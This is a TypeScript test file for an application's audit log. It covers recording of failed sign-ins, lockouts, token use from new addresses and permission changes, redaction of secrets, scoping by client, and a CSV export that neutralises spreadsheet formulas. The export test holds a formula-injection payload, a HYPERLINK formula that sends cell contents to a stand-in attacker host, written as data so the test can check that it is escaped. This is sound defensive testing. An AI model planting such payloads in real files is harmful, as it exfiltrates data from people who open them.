// The audit log as a security team reads it: failed sign-ins, lockouts, API tokens used from a
// new address and every permission change are recorded with the source address and user agent;
// entries name their target as it was then; actions can be listed and matched in part; the log
// exports as CSV a spreadsheet cannot run. No secret ever reaches an entry.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordAudit } from '../../src/modules/audit/record.js';
import { ADMIN, createTestApp, type Session, type TestApp } from '../helpers/app.js';
import { parseCsv } from '../helpers/csv.js';

let t: TestApp;
let sys: Session;
beforeAll(async () => {
  t = await createTestApp();
  sys = await t.login(ADMIN.email, ADMIN.password);
});
afterAll(async () => t?.close());

interface Entry {
  id: string;
  action: string;
  clientId: string | null;
  actor: { id: string; email: string } | null;
  targetType: string | null;
  targetId: string | null;
  targetName: string | null;
  ip: string | null;
  userAgent: string | null;
  details: Record<string, unknown> | null;
}

const entries = async (s: Session, query: string): Promise<Entry[]> => {
  const r = await t.as(s, 'GET', `/api/v1/audit?limit=500&${query}`);
  expect(r.statusCode, r.body).toBe(200);
  return r.json().items;
};

/** Every stored audit row, raw: what a database dump would show. */
const rawLog = async () => JSON.stringify(await t.db.handle.db.selectFrom('audit_log').selectAll().execute());

const signIn = (email: string, password: string, remoteAddress: string, userAgent: string) =>
  t.app.inject({
    method: 'POST',
    url: '/api/v1/auth/login',
    payload: { email, password },
    remoteAddress,
    headers: { 'user-agent': userAgent },
  });

async function makeOperator(email: string, role: 'system_admin' | 'client_admin', clientIds: string[] = []) {
  const r = await t.as(sys, 'POST', '/api/v1/operators', {
    email,
    name: email.split('@')[0],
    role,
    password: 'operator password 123',
    clientIds,
  });
  expect(r.statusCode, r.body).toBe(201);
  return r.json() as { id: string };
}

const makeClient = async (name: string): Promise<string> => {
  const r = await t.as(sys, 'POST', '/api/v1/clients', { name });
  expect(r.statusCode, r.body).toBe(201);
  return r.json().id;
};

describe('failed sign-ins and lockouts', () => {
  it('records each failed sign-in with the attempted address, source and user agent, never the password', async () => {
    const op = await makeOperator('fumbler@audit.test', 'system_admin');
    const secret = 'Hunter2-never-in-the-log';
    expect((await signIn('fumbler@audit.test', secret, '198.51.100.7', 'FumblerBrowser/1.0')).statusCode).toBe(401);
    expect((await signIn('ghost@audit.test', `${secret}!`, '198.51.100.8', 'GhostBot/2.0')).statusCode).toBe(401);

    const failed = await entries(sys, 'action=session.login_failed&actionMatch=exact');
    expect(failed.map((e) => [e.targetName, e.ip, e.userAgent, e.details?.reason])).toEqual([
      ['ghost@audit.test', '198.51.100.8', 'GhostBot/2.0', 'unknown_account'],
      ['fumbler@audit.test', '198.51.100.7', 'FumblerBrowser/1.0', 'wrong_password'],
    ]);
    // Nobody was signed in: there is no actor, but the known account is the target.
    expect(failed.map((e) => e.actor)).toEqual([null, null]);
    expect(failed.map((e) => [e.targetType, e.targetId])).toEqual([
      ['unknown_account', null],
      ['operator', op.id],
    ]);
    expect(failed[1]?.clientId).toBeNull();
    expect(await rawLog()).not.toContain(secret);
  });

  it('records a sign-in refused to a disabled account', async () => {
    const op = await makeOperator('leaver@audit.test', 'system_admin');
    await t.as(sys, 'PATCH', `/api/v1/operators/${op.id}`, { disabled: true });
    expect((await signIn('leaver@audit.test', 'operator password 123', '198.51.100.9', 'UA')).statusCode).toBe(401);
    const [e] = await entries(sys, `action=session.login_failed&actionMatch=exact`);
    expect(e?.details).toEqual({ reason: 'account_disabled' });
    expect(e?.targetId).toBe(op.id);
  });

  it('records the lockout and every attempt refused while locked, with source and user agent', async () => {
    await makeOperator('locked@audit.test', 'system_admin');
    for (let i = 0; i < 5; i++) await signIn('locked@audit.test', 'wrong wrong wrong', '203.0.113.50', 'Sprayer/9');
    const refused = await signIn('locked@audit.test', 'operator password 123', '203.0.113.50', 'Sprayer/9');
    expect(refused.statusCode).toBe(429);
    const [lock] = await entries(sys, 'action=operator.locked');
    expect(lock).toMatchObject({ ip: '203.0.113.50', userAgent: 'Sprayer/9', targetName: 'locked@audit.test' });
    const [last] = await entries(sys, 'action=session.login_failed&actionMatch=exact');
    expect(last?.details).toMatchObject({ reason: 'locked' });
    expect(await rawLog()).not.toContain('operator password 123');
  });
});

describe('secrets', () => {
  it('never keeps a secret that a caller put in the details by mistake, whatever its depth', async () => {
    await recordAudit(
      t.db.handle.db,
      { ip: '192.0.2.1', userAgent: 'UA' },
      {
        clientId: null,
        action: 'test.secrets',
        details: {
          password: 'pw-one',
          clientSecret: 'cs-two',
          nested: { smtp_password: 'pw-three', api_key: 'key-four', accessToken: 'at-five' },
          url: 'https://user:pw-six@hooks.example.test/in?token=tk-seven&channel=alerts',
          // Counts and names of changed fields are not secrets, and stay.
          revokedApiTokens: 2,
          changed: ['clientSecret', 'name'],
        },
      },
    );
    const [e] = await entries(sys, 'action=test.secrets&actionMatch=exact');
    expect(e?.details).toEqual({
      password: '[redacted]',
      clientSecret: '[redacted]',
      nested: { smtp_password: '[redacted]', api_key: '[redacted]', accessToken: '[redacted]' },
      url: 'https://hooks.example.test/in?token=[redacted]&channel=alerts',
      revokedApiTokens: 2,
      changed: ['clientSecret', 'name'],
    });
    for (const secret of ['pw-one', 'cs-two', 'pw-three', 'key-four', 'at-five', 'pw-six', 'tk-seven'])
      expect(await rawLog()).not.toContain(secret);
  });
});

describe('re-authentication', () => {
  it('records a password change refused for a wrong current password (a session in the wrong hands guessing)', async () => {
    await makeOperator('changer@audit.test', 'system_admin');
    const s = await t.login('changer@audit.test', 'operator password 123');
    const r = await t.app.inject({
      method: 'POST',
      url: '/api/v1/auth/password',
      payload: { currentPassword: 'a guess at the password', newPassword: 'the new password 456' },
      headers: { cookie: s.cookie, 'x-csrf-token': s.csrf, 'user-agent': 'Guesser/1' },
      remoteAddress: '198.51.100.200',
    });
    expect(r.statusCode).toBe(400);
    const [e] = await entries(sys, 'action=operator.password_change_failed&actionMatch=exact');
    expect(e).toMatchObject({
      actor: { id: s.operatorId, email: 'changer@audit.test' },
      targetId: s.operatorId,
      ip: '198.51.100.200',
      userAgent: 'Guesser/1',
      details: { reason: 'wrong_current_password' },
    });
    const raw = await rawLog();
    expect(raw).not.toContain('a guess at the password');
    expect(raw).not.toContain('the new password 456');
  });
});

describe('API tokens used from a new address', () => {
  it('records the first use from each source address (an IPv6 /64 is one), never the secret', async () => {
    const created = (await t.as(sys, 'POST', '/api/v1/api-tokens', { name: 'ci-runner' })).json();
    const call = (remoteAddress: string) =>
      t.app.inject({
        method: 'GET',
        url: '/api/v1/clients',
        remoteAddress,
        headers: { authorization: `Bearer ${created.secret}`, 'user-agent': 'ci-runner/3' },
      });
    for (const ip of ['192.0.2.10', '192.0.2.10', '2001:db8:5:6::1', '2001:db8:5:6::99', '192.0.2.11']) {
      expect((await call(ip)).statusCode).toBe(200);
    }
    const seen = await entries(sys, 'action=api_token.new_address');
    expect(seen.map((e) => [e.ip, e.userAgent, e.targetName, e.targetId])).toEqual([
      ['192.0.2.11', 'ci-runner/3', 'ci-runner', created.token.id],
      ['2001:db8:5:6::1', 'ci-runner/3', 'ci-runner', created.token.id],
      ['192.0.2.10', 'ci-runner/3', 'ci-runner', created.token.id],
    ]);
    expect(seen.map((e) => e.actor?.email)).toEqual([ADMIN.email, ADMIN.email, ADMIN.email]);
    expect(await rawLog()).not.toContain(created.secret);
  });
});

describe('permission changes', () => {
  it('records role changes, disabling, enabling and client assignments, each in its own words', async () => {
    const acme = await makeClient('Acme permissions');
    const globex = await makeClient('Globex permissions');
    const op = await makeOperator('promoted@audit.test', 'client_admin', [acme]);
    const patch = async (body: object) => {
      const r = await t.as(sys, 'PATCH', `/api/v1/operators/${op.id}`, body);
      expect(r.statusCode, r.body).toBe(200);
    };
    await patch({ clientIds: [globex] });
    await patch({ role: 'system_admin' });
    await patch({ disabled: true });
    await patch({ disabled: false });
    const log = (await entries(sys, '')).filter((e) => e.targetId === op.id);
    expect(log.map((e) => [e.action, e.clientId, e.details])).toEqual([
      ['operator.enable', null, null],
      ['operator.disable', null, { revokedSessions: 0, revokedApiTokens: 0 }],
      ['client.admin_unassign', globex, { email: 'promoted@audit.test' }],
      ['operator.role_change', null, { from: 'client_admin', to: 'system_admin' }],
      ['client.admin_assign', globex, { email: 'promoted@audit.test' }],
      ['client.admin_unassign', acme, { email: 'promoted@audit.test' }],
      ['client.admin_assign', acme, { email: 'promoted@audit.test' }],
      ['operator.create', null, { email: 'promoted@audit.test', role: 'client_admin', clientIds: [acme] }],
    ]);
    for (const e of log) {
      expect(e.targetName).toBe('promoted@audit.test');
      expect(e.userAgent).toBe('lightMyRequest');
    }
  });

  it("shows a client administrator who gained and lost access to their client, and nothing of others'", async () => {
    const mine = await makeClient('Mine permissions');
    const theirs = await makeClient('Theirs permissions');
    await makeOperator('watcher@audit.test', 'client_admin', [mine]);
    const newcomer = await makeOperator('newcomer@audit.test', 'client_admin', [mine, theirs]);
    await t.as(sys, 'DELETE', `/api/v1/clients/${mine}/administrators/${newcomer.id}`);
    const watcher = await t.login('watcher@audit.test', 'operator password 123');
    const seen = (await entries(watcher, '')).filter((e) => e.targetId === newcomer.id);
    expect(seen.map((e) => [e.action, e.clientId])).toEqual([
      ['client.admin_unassign', mine],
      ['client.admin_assign', mine],
    ]);
    expect(JSON.stringify(await entries(watcher, ''))).not.toContain(theirs);
  });
});

describe('target names', () => {
  it('names the target as it was when the entry was written, also once it is renamed or deleted', async () => {
    const clientId = await makeClient('Before Rename Ltd');
    await t.as(sys, 'PATCH', `/api/v1/clients/${clientId}`, { name: 'After Rename Ltd' });
    const recipient = (
      await t.as(sys, 'POST', `/api/v1/clients/${clientId}/recipients`, {
        email: 'pat@before.test',
        firstName: 'Pat',
        lastName: 'Doe',
      })
    ).json();
    expect(recipient.id).toBeTruthy();
    await t.as(sys, 'DELETE', `/api/v1/clients/${clientId}/recipients/${recipient.id}`);
    const log = await entries(sys, `clientId=${clientId}`);
    expect(log.map((e) => [e.action, e.targetName])).toEqual([
      ['recipient.delete', 'Pat Doe <pat@before.test>'],
      ['recipient.create', 'Pat Doe <pat@before.test>'],
      ['client.rename', 'After Rename Ltd'],
      ['client.create', 'Before Rename Ltd'],
    ]);
  });
});

describe('filtering by action', () => {
  it('lists the actions the reader can see, and matches part of an action or exactly one', async () => {
    const clientId = await makeClient('Filter Co');
    await makeOperator('filter-admin@audit.test', 'client_admin', [clientId]);
    await signIn('nobody-here@audit.test', 'whatever pass', '198.51.100.77', 'UA');

    const all = (await t.as(sys, 'GET', '/api/v1/audit/actions')).json().items as string[];
    expect(all).toEqual([...all].sort());
    expect(all).toEqual(expect.arrayContaining(['client.create', 'session.login', 'session.login_failed']));

    const clientAdmin = await t.login('filter-admin@audit.test', 'operator password 123');
    const mine = (await t.as(clientAdmin, 'GET', '/api/v1/audit/actions')).json().items;
    expect(mine).toEqual(['client.admin_assign', 'client.create']);

    const partial = await entries(sys, 'action=LOGIN_FAIL');
    expect(partial.length).toBeGreaterThan(0);
    expect(new Set(partial.map((e) => e.action))).toEqual(new Set(['session.login_failed']));
    const exact = await entries(sys, 'action=session.login&actionMatch=exact');
    expect(new Set(exact.map((e) => e.action))).toEqual(new Set(['session.login']));
    const bad = await t.as(sys, 'GET', '/api/v1/audit?actionMatch=fuzzy');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.details?.field).toBe('actionMatch');
  });
});

describe('CSV export', () => {
  it('exports the filtered log as CSV, every cell a spreadsheet would run made text, and records the export', async () => {
    const evil = '=HYPERLINK("https://evil.test/?x="&A1,"Click")';
    const clientId = await makeClient(evil);
    await signIn('=1+2@evil.test', 'formula password', '198.51.100.99', '@SUM(1,2)');

    const r = await t.as(sys, 'GET', '/api/v1/audit/export.csv');
    expect(r.statusCode, r.body).toBe(200);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.headers['content-disposition']).toMatch(/^attachment; filename="baitwise-audit-\d{8}-\d{6}\.csv"$/);
    expect(r.body.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(r.body);
    expect(header).toEqual([
      'When (UTC)',
      'Actor',
      'Action',
      'Client',
      'Target type',
      'Target',
      'Target id',
      'Source address',
      'User agent',
      'Details',
    ]);
    const created = rows.find((row) => row[2] === 'client.create' && row[6] === clientId);
    expect(created?.[3]).toBe(`'${evil}`);
    expect(created?.[5]).toBe(`'${evil}`);
    const failed = rows.find((row) => row[2] === 'session.login_failed' && row[7] === '198.51.100.99');
    expect(failed?.[5]).toBe("'=1+2@evil.test");
    expect(failed?.[8]).toBe("'@SUM(1,2)");
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(r.body).not.toContain('formula password');

    // Who took a copy of the log, and of what, is itself on record (and in the copy).
    const [exported] = await entries(sys, 'action=audit.export');
    expect(exported).toMatchObject({ actor: { email: ADMIN.email }, details: { filters: {} } });
    expect(rows.some((row) => row[2] === 'audit.export')).toBe(true);
  });

  it("exports only the reader's clients for a client administrator, and honours the filters", async () => {
    const a = await makeClient('Export A');
    const b = await makeClient('Export B');
    await makeOperator('exporter@audit.test', 'client_admin', [a]);
    await makeOperator('other-exporter@audit.test', 'client_admin', [b]);
    const s = await t.login('exporter@audit.test', 'operator password 123');
    const body = (await t.as(s, 'GET', '/api/v1/audit/export.csv')).body;
    expect(body).toContain('Export A');
    expect(body).not.toContain('Export B');
    expect(body).not.toContain(b);
    expect((await t.as(s, 'GET', `/api/v1/audit/export.csv?clientId=${b}`)).statusCode).toBe(404);
    const filtered = parseCsv(
      (await t.as(sys, 'GET', `/api/v1/audit/export.csv?clientId=${b}&action=admin_assign`)).body,
    );
    expect(filtered.slice(1).map((row) => [row[2], row[3]])).toEqual([['client.admin_assign', 'Export B']]);
  });
});
